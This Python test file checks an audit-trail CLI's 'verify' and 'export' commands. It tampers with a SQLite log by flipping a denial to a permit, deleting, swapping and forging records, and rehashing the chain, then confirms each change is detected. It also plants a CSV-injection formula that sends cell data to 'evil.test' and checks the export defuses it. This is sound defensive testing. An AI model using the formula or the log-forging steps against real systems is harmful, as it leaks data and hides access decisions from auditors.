"""``mais audit verify`` and ``mais audit export`` as an auditor runs them (issue 6, DESIGN §7 and §9): the real CLI
in a subprocess on a trail made by a real node, then tampered with directly in SQLite behind the node's back."""

from __future__ import annotations

import csv
import os
import sqlite3
import subprocess
import sys
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import orjson
import pytest

from mais_node.audit import balp
from mais_node.audit.actors import Actor
from mais_node.audit.chain import chain_hash
from mais_node.audit.export import CSV_COLUMNS
from tests.api.conftest import make_node
from tests.api.test_enquiry import FHIR, KNOWN, ask, parameters, person

Row = tuple[str, str, int, bytes]  # prev_hash, hash, recorded, event (zlib-compressed JSON)


@dataclass(frozen=True)
class Trail:
    """A node's SQLite file after real work, its record count, a signed checkpoint, and a denied decision's seq."""

    path: Path
    records: int
    checkpoint: dict[str, Any]
    denied: int


@pytest.fixture(scope="module")
def pristine(tmp_path_factory: pytest.TempPathFactory) -> Trail:
    """Tokens, register changes and enquiries (permitted, not known, denied) through a node in process."""
    folder = tmp_path_factory.mktemp("trail")
    nodes = make_node(folder)
    node = next(nodes)
    node.organisation("LA0001")
    node.organisation("POL001", "police")
    admin = {**FHIR, **node.as_("system/*.cruds mais/admin")}
    node.http.post("/fhir/Patient", content=orjson.dumps(person(*KNOWN.values())), headers=admin)
    node.services.persons.refresh()
    la1, police = node.as_("mais/enquiry", "LA0001"), node.as_("mais/enquiry", "POL001")
    for headers, body in (
        (la1, parameters(*ask("is-known", "is-open"))),
        (police, parameters()),
        (la1, parameters()),
    ):
        node.http.post("/fhir/Patient/$person-info-query", content=orjson.dumps(body), headers={**FHIR, **headers})
    checkpoint = node.services.checkpointer.checkpoint()
    assert checkpoint is not None
    # More work after the checkpoint, as on a live node: the checkpoint pins a prefix of the trail.
    node.http.post("/fhir/Patient/$person-info-query", content=orjson.dumps(parameters()), headers={**FHIR, **la1})
    records = list(node.services.audit.scan())
    denied = next(r.seq for r in records if r.event.get("outcome") == "8" and "decision" in str(r.event["subtype"]))
    next(nodes, None)  # closes the node and its store
    return Trail(folder / "node.db", len(records), checkpoint.to_json(), denied)


@pytest.fixture
def db(pristine: Trail, tmp_path: Path) -> Path:
    """A copy of the pristine trail for one test to tamper with."""
    copy = tmp_path / "node.db"
    with sqlite3.connect(pristine.path) as source, sqlite3.connect(copy) as target:
        source.backup(target)
    source.close()
    target.close()
    return copy


def mais(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("MAIS_")}
    return subprocess.run(
        [sys.executable, "-m", "mais_node", *args], capture_output=True, text=True, timeout=60, cwd=cwd, env=env
    )


def verify_cli(path: Path, *extra: str) -> subprocess.CompletedProcess[str]:
    return mais("audit", "verify", "--store", f"sqlite:///{path}", *extra, cwd=path.parent)


Tampering = Callable[[sqlite3.Connection], object]


def tamper(path: Path, change: Tampering) -> None:
    conn = sqlite3.connect(path)
    with conn:
        change(conn)
    conn.close()


def row(conn: sqlite3.Connection, seq: int) -> Row:
    found = conn.execute("SELECT prev_hash, hash, recorded, event FROM audit_log WHERE seq = ?", (seq,)).fetchone()
    return (str(found[0]), str(found[1]), int(found[2]), bytes(found[3]))


def put(conn: sqlite3.Connection, seq: int, values: Row) -> None:
    conn.execute("UPDATE audit_log SET prev_hash = ?, hash = ?, recorded = ?, event = ? WHERE seq = ?", (*values, seq))


def event_of(values: Row) -> dict[str, Any]:
    event: dict[str, Any] = orjson.loads(zlib.decompress(values[3]))
    return event


def packed(event: dict[str, Any]) -> bytes:
    return zlib.compress(orjson.dumps(event))


def change_field(seq: int) -> Tampering:
    """Turn a DENY into a PERMIT inside the stored, compressed event."""

    def change(conn: sqlite3.Connection) -> None:
        prev, hash_, recorded, _ = values = row(conn, seq)
        put(conn, seq, (prev, hash_, recorded, packed(event_of(values) | {"outcome": "0"})))

    return change


def delete(seq: int) -> Tampering:
    return lambda conn: conn.execute("DELETE FROM audit_log WHERE seq = ?", (seq,))


def swap(seq: int) -> Tampering:
    """Records ``seq`` and ``seq + 1`` change places (each keeps its own hashes and content)."""

    def change(conn: sqlite3.Connection) -> None:
        first, second = row(conn, seq), row(conn, seq + 1)
        put(conn, seq, second)
        put(conn, seq + 1, first)

    return change


def insert_after(seq: int) -> Tampering:
    """A forged record after ``seq``, correctly hashed onto it; the records after it move down one place."""

    def change(conn: sqlite3.Connection) -> None:
        _, hash_, recorded, _ = values = row(conn, seq)
        conn.execute("UPDATE audit_log SET seq = -seq WHERE seq > ?", (seq,))
        conn.execute("UPDATE audit_log SET seq = 1 - seq WHERE seq < 0")
        forged = event_of(values) | {"id": str(seq + 1), "outcomeDesc": "nothing to see"}
        conn.execute(
            "INSERT INTO audit_log VALUES (?, ?, ?, ?, ?)",
            (seq + 1, hash_, chain_hash(seq + 1, hash_, forged), recorded, packed(forged)),
        )

    return change


def reseal_from(seq: int) -> Tampering:
    """Change record ``seq`` and recompute every hash after it: a rewrite only a signed checkpoint can show."""

    def change(conn: sqlite3.Connection) -> None:
        (last,) = conn.execute("SELECT MAX(seq) FROM audit_log").fetchone()
        prev = row(conn, seq - 1)[1]
        for at in range(seq, last + 1):
            _, _, recorded, _ = values = row(conn, at)
            event = event_of(values) | ({"outcome": "0"} if at == seq else {})
            sealed = chain_hash(at, prev, event)
            put(conn, at, (prev, sealed, recorded, packed(event)))
            prev = sealed

    return change


def test_an_untouched_trail_verifies(db: Path, pristine: Trail) -> None:
    result = verify_cli(db)
    assert result.returncode == 0, result.stdout + result.stderr
    assert f"audit trail verified: {pristine.records} records, last seq {pristine.records}" in result.stdout


@pytest.mark.parametrize(
    ("tampering", "offset", "kind"),
    [(change_field, 0, "changed"), (delete, 0, "removed"), (swap, 0, "reordered"), (insert_after, 1, "inserted")],
    ids=["field-changed", "record-deleted", "records-swapped", "record-inserted"],
)
def test_each_tampering_fails_and_names_the_first_bad_record(
    db: Path, pristine: Trail, tampering: Callable[[int], Tampering], offset: int, kind: str
) -> None:
    seq = pristine.denied
    tamper(db, tampering(seq))
    result = verify_cli(db)
    assert result.returncode == 1, result.stdout + result.stderr
    assert f"audit trail NOT verified: record {seq + offset} {kind}:" in result.stdout


def test_a_cut_tail_is_found_only_against_the_checkpoint_given(db: Path, pristine: Trail, tmp_path: Path) -> None:
    checkpoint = tmp_path / "checkpoint.json"
    checkpoint.write_bytes(orjson.dumps(pristine.checkpoint))
    untouched = verify_cli(db, "--checkpoint", str(checkpoint))
    assert untouched.returncode == 0, untouched.stdout + untouched.stderr

    cut = int(pristine.checkpoint["seq"]) - 2
    tamper(db, lambda conn: conn.execute("DELETE FROM audit_log WHERE seq >= ?", (cut,)))
    tamper(db, lambda conn: conn.execute("DELETE FROM audit_checkpoint"))
    blind = verify_cli(db)
    assert blind.returncode == 0  # a cut tail leaves a valid chain: only a checkpoint kept elsewhere shows it
    anchored = verify_cli(db, "--checkpoint", str(checkpoint))
    assert anchored.returncode == 1
    assert f"record {cut} truncated:" in anchored.stdout


def test_a_rewritten_and_rehashed_chain_is_caught_by_the_signed_checkpoint(
    db: Path, pristine: Trail, tmp_path: Path
) -> None:
    checkpoint = tmp_path / "checkpoint.json"
    checkpoint.write_bytes(orjson.dumps(pristine.checkpoint))
    tamper(db, reseal_from(pristine.denied))
    stored = verify_cli(db)  # the node's own stored checkpoint
    assert stored.returncode == 1
    assert f"record {pristine.checkpoint['seq']} checkpoint-mismatch:" in stored.stdout

    tamper(db, lambda conn: conn.execute("DELETE FROM audit_checkpoint"))
    given = verify_cli(db, "--checkpoint", str(checkpoint))
    assert given.returncode == 1
    assert f"record {pristine.checkpoint['seq']} checkpoint-mismatch:" in given.stdout


@pytest.mark.parametrize("forgery", ["signature", "hash"])
def test_a_tampered_checkpoint_is_reported(db: Path, pristine: Trail, tmp_path: Path, forgery: str) -> None:
    forged = dict(pristine.checkpoint)
    if forgery == "signature":
        jws = str(forged["jws"])
        forged["jws"] = jws[:-6] + ("AAAAAA" if not jws.endswith("AAAAAA") else "BBBBBB")
    else:
        forged["hash"] = "f" * 64
    checkpoint = tmp_path / "checkpoint.json"
    checkpoint.write_bytes(orjson.dumps(forged))
    result = verify_cli(db, "--checkpoint", str(checkpoint))
    assert result.returncode == 1
    assert f"record {pristine.checkpoint['seq']} bad-signature:" in result.stdout


def test_export_writes_one_line_per_event_as_ndjson_or_csv(db: Path, pristine: Trail, tmp_path: Path) -> None:
    store = f"sqlite:///{db}"
    ndjson, table = tmp_path / "trail.ndjson", tmp_path / "trail.csv"
    for fmt, out in (("ndjson", ndjson), ("csv", table)):
        result = mais("audit", "export", "--store", store, "--format", fmt, "--out", str(out), cwd=tmp_path)
        assert result.returncode == 0, result.stderr
        assert f"exported {pristine.records} event(s)" in result.stderr

    events = [orjson.loads(line) for line in ndjson.read_text().splitlines()]
    assert [e["id"] for e in events] == [str(seq) for seq in range(1, pristine.records + 1)]
    assert {e["resourceType"] for e in events} == {"AuditEvent"}
    with table.open(newline="") as handle:
        rows = list(csv.reader(handle))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert [r[0] for r in rows[1:]] == [str(seq) for seq in range(1, pristine.records + 1)]


def test_export_since_and_until_select_by_recorded_time(db: Path, pristine: Trail, tmp_path: Path) -> None:
    store, out = f"sqlite:///{db}", tmp_path / "window.csv"
    for window, rows in ((("--since", "2000-01-01"), pristine.records), (("--until", "2000-01-01"), 0)):
        result = mais("audit", "export", "--store", store, "--format", "csv", *window, "--out", str(out), cwd=tmp_path)
        assert result.returncode == 0, result.stderr
        assert len(out.read_text().splitlines()) == rows + 1


@pytest.mark.slow
def test_a_csv_export_shows_a_formula_in_a_reason_as_text(db: Path, tmp_path: Path) -> None:
    """OWASP CSV injection: ``mais audit export --format csv`` prefixes a cell beginning ``=`` with ``'``."""
    formula = '=HYPERLINK("https://evil.test/?"&A1,"Click")'
    nodes = make_node(tmp_path)  # the same node.db as ``db``
    node = next(nodes)
    services = node.services
    reviewer = Actor(org_ods="NODE01", client_id="console:olu", user_id="olu", user_name=f"@{formula}")
    event = balp.review_decision(
        services.node, services.clock.now(), reviewer, enquiry_id="r-1", item="is-known", outcome="deny", reason=formula
    )
    services.checkpointer.append(event)
    next(nodes, None)
    out = tmp_path / "trail.csv"
    result = mais("audit", "export", "--store", f"sqlite:///{db}", "--format", "csv", "--out", str(out), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    with out.open(newline="") as handle:
        last = list(csv.DictReader(handle))[-1]
    assert last["reason"] == "'" + formula
    assert last["user"] == f"'@{formula}"
